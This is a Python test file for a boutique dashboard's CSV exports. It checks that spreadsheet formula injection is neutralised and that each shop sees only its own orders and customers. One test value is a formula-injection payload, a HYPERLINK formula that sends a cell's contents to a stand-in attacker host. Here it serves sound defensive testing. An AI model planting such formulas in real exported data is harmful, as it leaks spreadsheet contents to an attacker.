"""CSV exports for the accountant: the boutique's own orders and customers, safe to open.

Real stack: the dashboard signed in for real; rows written as the pipeline writes them.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest

from duka.dashboard.csv_cells import safe_cell
from tests.dashboard_helpers import (
    OwnerClient,
    add_conversation,
    add_order,
    create_owned_boutique,
    signed_in_owner,
)

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture()
def shop(admin_db) -> Any:
    return create_owned_boutique(admin_db, "Export Boutique")


@pytest.fixture()
def owner(stack, admin_db, shop) -> Iterator[OwnerClient]:
    with signed_in_owner(stack, admin_db, shop.id) as client:
        yield client


def rows_of(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.headers["Content-Disposition"].startswith('attachment; filename="duka-')
    text = response.data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+254712345678", "'+254712345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("Wanjiku = best", "Wanjiku = best"),
        ("", ""),
        (None, ""),
        (-200, -200),  # our own numbers stay numbers
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_the_orders_export_has_every_order_and_no_formula_runs(stack, admin_db, shop, owner):
    chat = add_conversation(admin_db, shop.id, name=HOSTILE_NAME, phone="+254712345678")
    add_order(
        admin_db, shop.id, chat, lines=[(None, "Kitenge Dress", "M", 2, 2500)], delivery_fee=200
    )
    add_order(
        admin_db, shop.id, chat, lines=[(None, "@Denim Jacket", None, 1, 3200)], status="failed"
    )

    rows = rows_of(owner.get("/dashboard/exports/orders.csv"))

    assert [r["Total (KES)"] for r in rows] == ["5200.00", "3200.00"]
    paid = rows[0]
    assert paid["Customer"] == "'" + HOSTILE_NAME
    assert paid["Phone"] == "'+254712345678"
    assert paid["Items"] == "Kitenge Dress M x2"
    assert paid["Delivery fee (KES)"] == "200"
    assert paid["Payment"] == "Paid" and paid["Delivery address"] == "Kilimani, Argwings Kodhek Rd"
    assert rows[1]["Items"] == "'@Denim Jacket x1"
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_the_orders_export_follows_the_orders_page_filters(stack, admin_db, shop, owner):
    chat = add_conversation(admin_db, shop.id)
    add_order(admin_db, shop.id, chat, lines=[(None, "Kitenge Dress", "M", 1, 2500)])
    add_order(
        admin_db, shop.id, chat, lines=[(None, "Denim Jacket", "L", 1, 3200)], status="failed"
    )

    orders_page = owner.get("/dashboard/orders?payment=paid").text
    assert "/dashboard/exports/orders.csv?payment=paid" in orders_page
    rows = rows_of(owner.get("/dashboard/exports/orders.csv?payment=paid"))

    assert [r["Items"] for r in rows] == ["Kitenge Dress M x1"]


def test_the_customers_export_lists_this_boutiques_customers_only(stack, admin_db, shop, owner):
    regular = add_conversation(admin_db, shop.id, name="Achieng Otieno", phone="+254711000001")
    add_order(admin_db, shop.id, regular, lines=[(None, "Kitenge Dress", "M", 1, 2500)])
    add_conversation(admin_db, shop.id, name="-Amina", phone="+254711000002")
    admin_db.execute(
        "INSERT INTO consent_events (business_id, customer_phone, kind, source)"
        " VALUES (%s, '+254711000002', 'opt_out', 'chat_keyword')",
        (shop.id,),
    )
    other = create_owned_boutique(admin_db, "Other Boutique")
    add_conversation(admin_db, other.id, name="Not Yours", phone="+254711000003")

    assert "/dashboard/exports/customers.csv" in owner.get("/dashboard/customers").text
    rows = rows_of(owner.get("/dashboard/exports/customers.csv"))

    assert [
        (r["Customer"], r["Paid orders"], r["Spent (KES)"], r["Sizes bought"]) for r in rows
    ] == [
        ("Achieng Otieno", "1", "2500.00", "M"),
        ("'-Amina", "0", "0", ""),
    ]
    assert rows[1]["Messages from the shop"] == "Stopped (STOP)"
    assert rows[0]["Messages from the shop"] == "Not asked"
